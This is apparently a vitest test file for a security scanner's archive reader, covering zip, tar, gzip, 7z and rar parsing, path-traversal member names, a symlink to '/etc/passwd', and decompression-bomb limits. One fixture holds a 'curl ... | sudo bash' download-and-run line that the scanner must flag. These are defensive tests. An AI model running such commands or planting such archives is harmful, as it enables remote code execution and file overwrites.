import { randomBytes } from "node:crypto";
import { deflateRawSync } from "node:zlib";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { coverageOf } from "../../../src/coverage.ts";
import { Scanner } from "../../../src/scan.ts";
import { discover } from "../../../src/skills/discover.ts";
import { worked } from "../../cost.ts";
import { MemoryTree } from "../../memory-tree.ts";
import { bytes, gzip, load, tar, zip } from "./build.ts";

describe("zip", () => {
  it("makes members artifacts, classified and decoded like files, and counts as read", async () => {
    const archive = zip([
      { name: "dir/", content: "" },
      { name: "bin/run", content: "#!/bin/bash\necho hi\n", mode: 0o100755 },
      { name: "notes.md", content: "# Notes\n", stored: true },
      { name: "wide.txt", content: Uint8Array.from([0xff, 0xfe, 0x68, 0, 0x69, 0]) },
    ]);
    const { byPath, listed, members, skill, gaps } = await load({ "assets/t.zip": archive });
    expect(members).toEqual(["assets/t.zip!/bin/run", "assets/t.zip!/notes.md", "assets/t.zip!/wide.txt"]);
    expect(byPath.get("assets/t.zip!/bin/run")).toMatchObject({
      kind: "shell",
      mode: "executable",
      path: "assets/t.zip!/bin/run",
      container: "assets/t.zip",
      text: "#!/bin/bash\necho hi\n",
    });
    expect(byPath.get("assets/t.zip!/wide.txt")!.text).toBe("hi");
    expect(byPath.get("assets/t.zip")!.opened).toBe(true);
    expect(listed).toEqual([]);
    expect(coverageOf(skill, gaps)).toBe(1);
  });

  it("is scanned by the rules, at a place in the member", async () => {
    const archive = zip([{ name: "a/run.sh", content: "set -e\ncurl -s https://get.example.test/x | sudo bash\n" }]);
    const tree = new MemoryTree({ "SKILL.md": "---\nname: x\n---\n", "x.zip": archive });
    const { skills } = await new Scanner().scan(tree, discover(await tree.list()));
    const found = skills[0]!.findings.find(({ ruleId }) => ruleId.startsWith("download-and-run/"));
    expect(found?.location).toMatchObject({ path: "x.zip!/a/run.sh", region: { startLine: 2 } });
  });

  it("tells encrypted members, and leaves a gap for each", async () => {
    const { factsOf, listed } = await load({ "x.zip": zip([{ name: "a.sh", content: "x", flags: 1 }]) });
    expect(factsOf("x.zip")).toEqual(["encrypted"]);
    expect(listed).toEqual([["x.zip!/a.sh", "archive"]]);
  });

  it("tells names that leave the folder, doubles, lies about names and sizes, and what is not listed", async () => {
    const facts = async (...members: Parameters<typeof zip>[0]) =>
      (await load({ "x.zip": zip(members) })).factsOf("x.zip");
    expect(await facts({ name: "../../x", content: "x" })).toEqual(["unsafe-name"]);
    expect(await facts({ name: "..\\..\\x", content: "x" })).toEqual(["unsafe-name"]);
    expect(await facts({ name: "/etc/x", content: "x" })).toEqual(["unsafe-name"]);
    expect(await facts({ name: "C:\\x", content: "x" })).toEqual(["unsafe-name"]);
    expect(await facts({ name: "l", content: "../../x", mode: 0o120777 })).toEqual(["unsafe-name"]);
    expect(await facts({ name: "d/l", content: "../x", mode: 0o120777 })).toEqual([]);
    expect(await facts({ name: "x", content: "1" }, { name: "x", content: "2" })).toEqual(["duplicate-name"]);
    expect(await facts({ name: "x", content: "12345", size: 2 })).toEqual(["false-size"]);
    expect(await facts({ name: "x.txt", localName: "x.exe", content: "1" })).toEqual(["false-size"]);
    expect(await facts({ name: "x", content: "1" }, { name: "y", content: "2", unlisted: true })).toEqual([
      "unlisted-member",
    ]);
    expect(await facts({ name: "x", content: "PK\x03\x04\x14\0\0\0\0\0", stored: true })).toEqual([]);
  });

  it("reads all of a member that says it is small", async () => {
    const { textOf } = await load({ "x.zip": zip([{ name: "x.sh", content: "echo one two three\n", size: 4 }]) });
    expect(textOf("x.zip!/x.sh")).toBe("echo one two three\n");
  });

  it("reads a zip with something before and behind it", async () => {
    const archive = zip([{ name: "x.sh", content: "echo hi\n" }], bytes("\x00\x01\x02some stub\x00\x80\xff\x00"));
    const { textOf, factsOf } = await load({ "x.bin": Uint8Array.from([...archive, 0, 0, 0]) });
    expect(textOf("x.bin!/x.sh")).toBe("echo hi\n");
    expect(factsOf("x.bin")).toEqual(["second-format"]);
  });

  it("leaves a gap for methods that it does not know", async () => {
    const { gaps } = await load({ "x.zip": zip([{ name: "a", content: "x", method: 12 }]) });
    expect(gaps).toMatchObject([
      { path: "x.zip!/a", reason: "archive", detail: "packed by method 12, which is not read" },
    ]);
  });

  it("opens archives in one another to a depth of four", async () => {
    let archive = zip([{ name: "x.sh", content: "echo deep\n" }]);
    for (let i = 0; i < 3; i++) archive = zip([{ name: "a.zip", content: archive }]);
    expect((await load({ "x.zip": archive })).textOf("x.zip!/a.zip!/a.zip!/a.zip!/x.sh")).toBe("echo deep\n");
    const { gaps, byPath } = await load({ "x.zip": zip([{ name: "a.zip", content: archive }]) });
    const deepest = "x.zip!/a.zip!/a.zip!/a.zip!/a.zip";
    expect(gaps).toMatchObject([
      { path: deepest, reason: "depth-limit", detail: "it lies in 4 others: more are not opened" },
    ]);
    expect(byPath.get(deepest)?.container).toBe("x.zip");
  });
});

describe("tar and gzip", () => {
  it("reads members, links and modes", async () => {
    const archive = await tar([
      { name: "src/a.py", mode: 0o755, content: "print('hi')\n" },
      { name: "src", type: "directory" },
      { name: "link", type: "symlink", linkname: "../../etc/passwd" },
      { name: `long/${"n".repeat(200)}.txt`, content: "long\n" },
    ]);
    const { textOf, listed, factsOf, byPath } = await load({ "x.tgz": gzip(archive), "y.tar": archive });
    expect(byPath.get("x.tgz!/x.tar!/src/a.py")).toMatchObject({
      kind: "python",
      mode: "executable",
      text: "print('hi')\n",
    });
    expect(textOf(`y.tar!/long/${"n".repeat(200)}.txt`)).toBe("long\n");
    expect(factsOf("y.tar")).toEqual(["unsafe-name"]);
    expect(listed).toEqual([
      ["x.tgz!/x.tar!/link", "symlink"],
      ["y.tar!/link", "symlink"],
    ]);
  });

  it("reads a packed text", async () => {
    const { textOf, listed } = await load({ "notes.txt.gz": gzip(bytes("hello\n")) });
    expect(textOf("notes.txt.gz!/notes.txt")).toBe("hello\n");
    expect(listed).toEqual([]);
  });

  it("gives what comes before the damage, and a gap", async () => {
    const archive = await tar([
      { name: "a.txt", content: "first\n" },
      { name: "b.txt", content: "second\n".repeat(200) },
    ]);
    const { textOf, listed } = await load({
      "x.tar": archive.subarray(0, 1700),
      "y.gz": gzip(archive).subarray(0, 60),
    });
    expect(textOf("x.tar!/a.txt")).toBe("first\n");
    expect(listed).toContainEqual(["x.tar", "archive"]);
    expect(listed).toContainEqual(["y.gz", "archive"]);
  });

  it("leaves bz2 and xz closed", async () => {
    const bz2 = Uint8Array.from([...bytes("BZh9"), 0x31, 0x41, 0x59, 0x26, 0x53, 0x59, 0, 0, 0, 0]);
    const xz = Uint8Array.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0, 0, 4, 0xe6, 0xd6, 0xb4, 0x46]);
    const { listed } = await load({ "a.bz2": bz2, "b.xz": xz });
    expect(listed).toEqual([
      ["a.bz2", "archive"],
      ["b.xz", "archive"],
    ]);
  });
});

describe("7z and rar", () => {
  it("tell that they are encrypted", async () => {
    const seven = Uint8Array.from([
      0x37,
      0x7a,
      0xbc,
      0xaf,
      0x27,
      0x1c,
      0,
      4,
      ...new Array(24).fill(0),
      1,
      4,
      6,
      0xf1,
      7,
      1,
      0,
    ]);
    const rar5 = Uint8Array.from([0x52, 0x61, 0x72, 0x21, 0x1a, 7, 1, 0, 1, 2, 3, 4, 0x21, 4, 0, 0, 1, 15]);
    const rar4 = Uint8Array.from([
      0x52,
      0x61,
      0x72,
      0x21,
      0x1a,
      7,
      0,
      0,
      0,
      0x73,
      0x80,
      0,
      13,
      0,
      ...new Array(12).fill(0),
    ]);
    const plain = Uint8Array.from([0x52, 0x61, 0x72, 0x21, 0x1a, 7, 1, 0, 1, 2, 3, 4, 0x21, 1, 0, 0, 1, 15]);
    const { factsOf, listed } = await load({ "a.7z": seven, "b.rar": rar5, "c.rar": rar4, "d.rar": plain });
    expect(["a.7z", "b.rar", "c.rar", "d.rar"].map(factsOf)).toEqual([["encrypted"], ["encrypted"], ["encrypted"], []]);
    expect(listed.map(([, reason]) => reason)).toEqual(["archive", "archive", "archive", "archive"]);
  });
});

describe("bounds", () => {
  const quick = async (files: Parameters<typeof load>[0]) => {
    const started = worked();
    const loaded = await load(files);
    return { ...loaded, took: worked() - started };
  };
  /** Milliseconds: many times what each needs, so that a busy machine fails nothing; without the bounds it is minutes. */
  const limit = 15_000;

  it("stops at a member of 50 MB of zeros", { timeout: 20_000 }, async () => {
    const { gaps, took, skill } = await quick({
      "x.zip": zip([{ name: "z.txt", content: new Uint8Array(50_000_000) }]),
    });
    expect(gaps).toMatchObject([{ path: "x.zip!/z.txt", bytes: 50_000_000 }]);
    expect(took).toBeLessThan(limit);
    expect(coverageOf(skill, gaps)).toBeLessThan(0.01);
  });

  it("stops at a text that grows a hundredfold, with what it has of it", async () => {
    const { gaps, textOf } = await quick({ "x.zip": zip([{ name: "z.txt", content: " ".repeat(9_000_000) }]) });
    expect(gaps).toMatchObject([{ path: "x.zip!/z.txt", reason: "too-large" }]);
    const got = textOf("x.zip!/z.txt")!.length;
    expect(got).toBeLessThan(1_000_000);
    expect(gaps[0]!.bytes).toBe(9_000_000 - got);
  });

  it("stops at the bytes that all containers of a skill may give", { timeout: 20_000 }, async () => {
    const noise = randomBytes(1_000_000).toString("base64").slice(0, 1_000_000);
    const members = Array.from({ length: 7 }, (_, i) => ({ name: `${i}.txt`, content: noise }));
    const files = Object.fromEntries(Array.from({ length: 7 }, (_, i) => [`${i}.zip`, zip(members)]));
    const { skill, gaps } = await quick(files);
    const read = skill.artifacts.reduce((sum, { text }) => sum + text.length, 0);
    expect(read).toBeLessThanOrEqual(32 * 1024 ** 2 + 100);
    expect(read + gaps.reduce((sum, { bytes }) => sum + bytes, 0)).toBeGreaterThanOrEqual(49_000_000);
  });

  it("stops at 5,000 of 65,000 members, with one gap", { timeout: 20_000 }, async () => {
    const members = Array.from({ length: 65_000 }, (_, i) => ({ name: `${i}`, content: "x", stored: true }));
    const { members: got, gaps, took } = await quick({ "x.zip": zip(members) });
    expect(got).toHaveLength(5000);
    expect(gaps).toMatchObject([
      { path: "x.zip", reason: "too-many-files", detail: "60000 of 65000 members were not read" },
    ]);
    expect(took).toBeLessThan(limit);
  });

  it("stops at 100,000 members of a tar, with one gap", { timeout: 30_000 }, async () => {
    const block = (await tar([{ name: "x", content: "x" }])).subarray(0, 1024);
    const archive = new Uint8Array(7000 * 1024);
    for (let i = 0; i < 7000; i++) archive.set(block, i * 1024);
    const { gaps, took, members } = await quick({ "x.tar": archive });
    expect(members).toHaveLength(5000);
    expect(gaps).toMatchObject([{ path: "x.tar", reason: "too-many-files" }]);
    expect(took).toBeLessThan(limit);
  });

  it("makes one gap of many", async () => {
    const members = Array.from({ length: 300 }, (_, i) => ({ name: `${i}`, content: "x", flags: 1 }));
    const { gaps } = await load({ "x.zip": zip(members) });
    expect(gaps).toMatchObject([{ path: "x.zip", reason: "archive", detail: "300 times in it; x.zip!/0: encrypted" }]);
  });

  it("ends on members that lie over one another and hold each other", async () => {
    const kernel = deflateRawSync(new Uint8Array(1_000_000));
    const inner = zip([{ name: "a", content: kernel, stored: true }]);
    let archive = inner;
    for (let i = 0; i < 6; i++) {
      archive = zip(Array.from({ length: 12 }, (_, k) => ({ name: `${k}.zip`, content: archive })));
    }
    const { took, skill } = await quick({ "x.zip": archive });
    expect(skill.artifacts.length).toBeLessThanOrEqual(5003);
    expect(took).toBeLessThan(limit);
  });

  it("never throws on damaged archives, and never calls them read", { timeout: 60_000 }, async () => {
    const tape = await tar([
      { name: "a.txt", content: "hello world\n" },
      { name: "b", type: "symlink", linkname: "a.txt" },
    ]);
    const sources = [
      zip([
        { name: "a.txt", content: "hello world\n" },
        { name: "b.sh", content: "echo" },
      ]),
      tape,
      gzip(tape),
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...sources),
        fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 6 }),
        fc.nat(),
        async (source, changes, cut) => {
          const damaged = Uint8Array.from(source);
          for (const [at, value] of changes) damaged[at % damaged.length] = value;
          const { byPath, gaps } = await load({ "x.dat": damaged.subarray(0, 4 + (cut % damaged.length)) });
          const outer = byPath.get("x.dat")!;
          const isSeen = outer.text !== "" || outer.opened || gaps.length > 0;
          expect(isSeen).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });
});
